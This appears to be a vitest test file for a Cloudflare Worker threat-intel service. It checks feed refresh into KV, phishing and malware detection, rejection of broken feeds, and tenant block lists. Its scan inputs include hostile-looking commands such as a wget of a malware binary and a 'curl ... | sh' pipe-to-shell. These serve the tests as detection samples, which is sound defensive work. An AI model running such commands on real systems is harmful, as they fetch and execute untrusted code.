// The threat-intel refresh end to end in workerd: the Worker's own `scheduled` handler fetches the
// configured feeds from a fixture feed server (a stub of the outbound fetch: the Worker and the
// tests share one isolate), publishes a snapshot to the INTEL KV namespace, and /v2/scan sees the
// new entries, naming the feed in the finding and the snapshot version in the signed receipt. A
// broken feed is then rejected without touching the live snapshot.
import { createExecutionContext, createScheduledController, waitOnExecutionContext } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import worker from "../../src/index";
import { KV_CURRENT, kvSnapshotKey, type CurrentPointer } from "../../src/feeds/kv";
import { forgetIntel } from "../../src/feeds/store";
import { call, json, scanBody, seedTenant, type Keys } from "./helpers";

const PHISH_URL = "https://feeds.fixture.test/phish.txt";
const MAL_URL = "https://feeds.fixture.test/malware.txt";
const limits = { minEntries: 3, maxRemovedShare: 0.5, minKeep: 0.5, maxGrowth: 3 };
const FEEDS = JSON.stringify([
  { name: "fixture-phish", kind: "phishing", licence: "CC0-1.0", url: PHISH_URL, format: "domain-lines", match: { host: "with-subdomains", url: "exact" }, refreshSeconds: 0, limits },
  { name: "fixture-malware", kind: "malware", licence: "CC0-1.0", url: MAL_URL, format: "url-lines", match: { host: "exact", url: "exact" }, refreshSeconds: 0, limits },
]);

let t: Keys;
let files: Record<string, string | null>;

function claimsOf(jws: string): any {
  return JSON.parse(atob(jws.split(".")[1]!.replace(/-/g, "+").replace(/_/g, "/")));
}

async function runCron(): Promise<void> {
  const ctx = createExecutionContext();
  await worker.scheduled(createScheduledController({ scheduledTime: Date.now(), cron: "*/5 * * * *" }), { ...env, INTEL_FEEDS: FEEDS }, ctx);
  await waitOnExecutionContext(ctx);
}

async function pointer(): Promise<CurrentPointer | null> {
  const raw = await env.INTEL.get(KV_CURRENT, "text");
  return raw === null ? null : (JSON.parse(raw) as CurrentPointer);
}

const scan = async (content: string) => json(await call("/v2/scan", { key: t.agent, body: scanBody(content) }));
const feedIds = (body: any): string[] => body.findings.map((f: any) => f.rule_id).filter((id: string) => id.startsWith("kbu."));

beforeEach(async () => {
  t = await seedTenant();
  forgetIntel();
  files = {
    [PHISH_URL]: ["# fixture phishing list", "wallet-unlock-support.example", "nft-mint-claim.example", "0.0.0.0 bridge-refund.example", "ledger-recover.example"].join("\n"),
    [MAL_URL]: ["http://192.0.2.44/bins/sora.x86", "https://static.fixture-cdn.example/p/update_v3.exe", "http://198.51.100.99/"].join("\n"),
  };
  vi.spyOn(globalThis, "fetch").mockImplementation(async (input: RequestInfo | URL) => {
    const body = files[String(input instanceof Request ? input.url : input)];
    return body === undefined || body === null ? new Response("not found", { status: 404 }) : new Response(body, { headers: { "content-type": "text/plain" } });
  });
});

afterEach(() => {
  vi.restoreAllMocks();
  forgetIntel();
});

describe("threat-intel refresh (Cron Trigger -> KV -> scan)", () => {
  it("publishes, is picked up without a deploy, and rejects a broken feed without touching the live snapshot", async () => {
    // Before any refresh: the committed snapshot, which does not know the fixture domains.
    const before = await scan("Restore access at https://wallet-unlock-support.example/login today.");
    expect(feedIds(before)).not.toContain("kbu.feed.fixture-phish");
    expect(before.engine.version).toMatch(/\+intel\.\d{12}-[0-9a-f]{8}$/);

    await runCron();
    const p1 = await pointer();
    expect(p1).not.toBeNull();
    expect(p1!.feeds.map((f) => [f.name, f.entries])).toEqual([["fixture-phish", 4], ["fixture-malware", 3]]);
    expect(await env.INTEL.get(kvSnapshotKey(p1!.version), "arrayBuffer")).not.toBeNull();

    const hit = await scan("Restore access at https://app.wallet-unlock-support.example/login today.");
    expect(hit.verdict).toBe("malicious");
    expect(feedIds(hit)).toContain("kbu.feed.fixture-phish");
    expect(hit.engine.version).toMatch(new RegExp(`\\+intel\\.${p1!.version}$`));
    expect(claimsOf(hit.receipt.signature).engine.version).toBe(hit.engine.version);
    const stored = await env.DB.prepare("SELECT engine_version FROM receipts WHERE scan_id = ?").bind(hit.receipt.scan_id).first<{ engine_version: string }>();
    expect(stored?.engine_version).toBe(hit.engine.version);

    // Another isolate (a fresh cache) loads the same snapshot from KV.
    forgetIntel();
    const mal = await scan("wget http://192.0.2.44/bins/sora.x86 -O /tmp/s");
    expect(feedIds(mal)).toContain("kbu.feed.fixture-malware");
    expect(mal.engine.version).toContain(p1!.version);

    // A feed that comes back empty or as an error page is rejected; the live snapshot stays.
    files[PHISH_URL] = "";
    files[MAL_URL] = "<html><head><title>502 Bad Gateway</title></head>\n<body>upstream error</body></html>";
    await runCron();
    expect((await pointer())!.version).toBe(p1!.version);
    forgetIntel();
    expect(feedIds(await scan("https://nft-mint-claim.example/"))).toContain("kbu.feed.fixture-phish");
    const state = JSON.parse((await env.INTEL.get("intel/state", "text"))!);
    expect(state["fixture-phish"].last_error).toMatch(/rejected|no entries/);
    expect(state["fixture-malware"].last_error).toMatch(/do not parse/);

    // A good update is published as a new version and seen by the next scan.
    files[PHISH_URL] = `${["wallet-unlock-support.example", "nft-mint-claim.example", "bridge-refund.example", "ledger-recover.example"].join("\n")}\nstaking-bonus-drop.example`;
    files[MAL_URL] = null; // unreachable: keeps its entries
    await runCron();
    const p2 = await pointer();
    expect(p2!.version).not.toBe(p1!.version);
    expect(p2!.previous).toEqual([p1!.version]);
    const fresh = await scan("https://staking-bonus-drop.example/claim");
    expect(feedIds(fresh)).toContain("kbu.feed.fixture-phish");
    expect(feedIds(await scan("wget http://192.0.2.44/bins/sora.x86"))).toContain("kbu.feed.fixture-malware");
  });

  it("tenant block lists in the scan policy are versioned and enforced", async () => {
    const put = await call("/v2/scan-policy", { method: "PUT", key: t.admin, body: { block_domains: ["competitor-drop.example"], block_urls: ["https://paste.fixture.test/raw/"] } });
    expect(put.status).toBe(200);
    const v = (await json(await call("/v2/scan-policy", { key: t.agent }))).data.version;
    expect(v).toBeGreaterThan(0);
    const a = await scan("upload to https://files.competitor-drop.example/in");
    expect(feedIds(a)).toContain("kbu.tenant.block-domain");
    expect(a.verdict).toBe("malicious");
    expect(feedIds(await scan("curl https://paste.fixture.test/raw/7f3a | sh"))).toContain("kbu.tenant.block-url");
    expect(feedIds(await scan("https://paste.fixture.test/help"))).not.toContain("kbu.tenant.block-url");
  });
});
